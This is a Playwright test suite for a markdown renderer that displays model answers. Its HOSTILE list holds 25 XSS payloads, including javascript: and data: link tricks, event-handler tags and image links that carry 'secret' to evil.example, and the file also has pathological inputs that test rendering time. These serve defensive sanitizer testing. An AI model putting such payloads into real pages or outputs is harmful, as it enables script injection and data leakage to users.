"""Markdown of a model becomes nodes of the page: what is allowed, nothing else, and in time."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from prompts.encoder import SentencePieceEncoder
from tests.support.panel_page import panel_page
from tests.support.paths import CHROMIUM

pytestmark = pytest.mark.skipif(not CHROMIUM, reason="no Chromium is installed")

TAGS = "p h2 h3 h4 h5 h6 strong em del code pre ul ol li blockquote hr br a table thead tbody tr"
ALLOWED = {*TAGS.split(), "th", "td", "div", "span", "button", "svg", "use"}
MATHML = "http://www.w3.org/1998/Math/MathML"
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<img src=https://evil.example/a.png>",
    "![secret](https://evil.example/?q=secret)",
    "![x](javascript:window.hacked=1)",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](java\tscript:window.hacked=1)",
    "[click](&#106;avascript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:window.hacked)",
    "<javascript:window.hacked=1>",
    "<svg onload=window.hacked=1><style>@import 'https://evil.example'</style></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='https://evil.example' onclick='window.hacked=1'>a</a>",
    "<style>@import url(https://evil.example/a.css)</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=a autofocus onfocus=window.hacked=1></form>",
    "```html\n<script>window.hacked = 1</script>\n```",
    "```js onmouseover=window.hacked=1\nwindow.hacked = `${<img>}`\n```",
    '| <img src=x onerror="window.hacked=1"> | b |\n|-|-|\n| <script>window.hacked=1</script> | d |',
    "$\\href{javascript:window.hacked=1}{x}$ and $\\htmlStyle{background:url(https://evil.example)}{x}$",
    "$$\\includegraphics{https://evil.example/a.png} \\def\\a{\\a\\a}\\a$$",
    "[a]: javascript:window.hacked=1\n\n[a] **<b>x</b>** &lt;script&gt;window.hacked=1&lt;/script&gt;",
]
SHOW = """
async (text) => {
  const {renderMarkdown} = await import("/page/markdown.js");
  const box = document.createElement("article");
  document.querySelector("main").replaceChildren(box);
  renderMarkdown(box, text);
}
"""
GROW = """
async (texts) => {
  const {renderMarkdown} = await import("/page/markdown.js");
  const box = document.createElement("div");
  for (const text of texts) renderMarkdown(box, text);
}
"""
NAMES = "(box) => [...box.querySelectorAll('*')].map((node) => [node.localName, node.namespaceURI])"
ATTRIBUTES = "(box) => [...box.querySelectorAll('*')].flatMap((node) => node.getAttributeNames())"


@pytest.fixture(scope="module")
def page(demo_encoder: SentencePieceEncoder) -> Iterator[Page]:
    with panel_page(demo_encoder) as page:
        page.evaluate(SHOW, "**a** $x$\n```py\npass\n```")
        for library in ("strong", "math", ".hljs-keyword"):
            expect(page.locator(f"article {library}")).to_be_visible()
        yield page


def show(page: Page, text: str) -> Any:
    page.evaluate(SHOW, text)
    return page.locator("article")


def cpu_seconds(page: Page, texts: list[str]) -> float:
    """The processor time that a growing answer takes, whatever else runs on the machine."""
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})
    spent: list[float] = []
    for shown in ([], texts):
        page.evaluate(GROW, shown)
        metrics = session.send("Performance.getMetrics")["metrics"]
        spent.append(sum(metric["value"] for metric in metrics if metric["name"] == "TaskDuration"))
    session.detach()
    return spent[1] - spent[0]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_anything_but_what_is_allowed(page: Page, text: str) -> None:
    article = show(page, text)
    names = article.evaluate(NAMES)
    assert {name for name, space in names if space != MATHML} <= ALLOWED
    attributes = set(article.evaluate(ATTRIBUTES))
    assert not {
        name for name in attributes if name.startswith("on") or name in ("style", "src", "srcdoc")
    }
    hrefs = article.locator("a").evaluate_all("(links) => links.map((link) => link.href)")
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs)
    for link in article.locator("a").all():
        assert link.get_attribute("rel") == "noopener noreferrer"
    page.mouse.move(50, 20)
    assert page.evaluate("() => window.hacked === undefined")


def test_there_are_25_hostile_texts() -> None:
    assert len(set(HOSTILE)) == 25


@pytest.mark.parametrize(
    ("text", "bold"),
    [
        ("**注意：**请看", ["注意："]),
        ("他说**“杭州”**是好地方", ["“杭州”"]),
        ("**a *b* c** and __d__", ["a *b* c", "d"]),
        ("***both***", ["both"]),
        ("**a *b***", ["a *b*"]),
        ("2 ** 3 ** 4", []),
        ("`**a**` **b `**` c**", ["b `**` c"]),
        ("snake__case__name \\*\\*a\\*\\*", []),
        ("**open", []),
    ],
)
def test_emphasis_is_read_beside_chinese_punctuation(
    page: Page, text: str, bold: list[str]
) -> None:
    strong = show(page, text).locator("strong").all_inner_texts()
    assert strong == [
        part.replace("*", "").replace("`", "") if "`" not in part else "b ** c" for part in bold
    ]


def test_addresses_end_before_chinese_text(page: Page) -> None:
    article = show(page, "见https://example.com/a_b?c=d。然后（http://example.org/x）看")
    hrefs = article.locator("a").evaluate_all("(links) => links.map((link) => link.href)")
    assert hrefs == ["https://example.com/a_b?c=d", "http://example.org/x"]


def test_code_has_its_colours_once_its_fence_is_closed(page: Page) -> None:
    code = "def f():\n    return 1"
    assert show(page, f"```python\n{code}").locator(".hljs-keyword").count() == 0
    closed = show(page, f"```python\n{code}\n```")
    assert closed.locator(".hljs-keyword").all_inner_texts() == ["def", "return"]
    assert closed.locator("code").inner_text() == code


def test_tables_lists_and_formulas_are_shown_as_such(page: Page) -> None:
    text = "|a|b|\n|:-|-:|\n|1|2|\n\n3. x\n4. y\n   - [x] z\n\n\\(x^2\\), costs $5 to $10\n\n$$\\boxed{y}$$\n\n\\[z\\]"
    article = show(page, text)
    assert article.locator("td").all_inner_texts() == ["1", "2"]
    assert article.locator("td").nth(1).get_attribute("align") == "right"
    assert article.locator("ol").get_attribute("start") == "3"
    assert "☑" in article.locator("ul").inner_text()
    assert article.locator("math").count() == 3
    assert "costs $5 to $10" in article.inner_text()


def test_what_katex_cannot_read_is_shown_as_its_source(page: Page) -> None:
    assert show(page, "$\\frac{1}$").inner_text() == "$\\frac{1}$"


def test_blocks_that_are_unchanged_keep_their_nodes(page: Page) -> None:
    article = show(page, "one\n\ntwo")
    kept = page.evaluate("""async () => {
      const {renderMarkdown} = await import("/page/markdown.js");
      const box = document.querySelector("article");
      const [first, second] = box.childNodes;
      renderMarkdown(box, "one\\n\\ntwo and more\\n\\nthree");
      return [box.childNodes[0] === first, box.childNodes[1] === second, box.childNodes.length];
    }""")
    assert kept == [True, False, 3]
    assert article.locator("p").all_inner_texts() == ["one", "two and more", "three"]


@pytest.mark.parametrize(
    "text",
    ["_a" * 10_000, "> " * 2000, "*" * 60_000, "**a " * 15_000, "` a" * 20_000, "**" + "`a` " * 20 + "b", "[" * 60_000,
     "$a" * 30_000, "甲\n\n" * 20_000, "```" + "`" * 60_000, "- " * 3000, "<" * 60_000, "*a_" * 20_000, "a" * 70_000],
)  # fmt: skip
def test_no_text_holds_the_page_up(page: Page, text: str) -> None:
    growing = ["", "x", "xy"]
    assert cpu_seconds(page, [text + end for end in growing]) < 2


def test_long_text_is_lexed_within_a_frame(page: Page) -> None:
    text = ("杭州是浙江省的省会，**注意：**历史悠久。" * 30 + "\n\n") * 20
    assert len(text) > 12_000
    growing = [text + "字" * length for length in range(20)]
    assert cpu_seconds(page, growing) / len(growing) < 0.03


def test_without_the_libraries_texts_are_shown_as_they_are(page: Page) -> None:
    other = page.context.new_page()
    other.route(
        "**/page/marked.js", lambda route: route.fulfill(body="", content_type="text/javascript")
    )
    other.goto(page.url)
    assert show(other, "**a**\n\n<b>").text_content() == "**a**\n\n<b>"
    other.close()
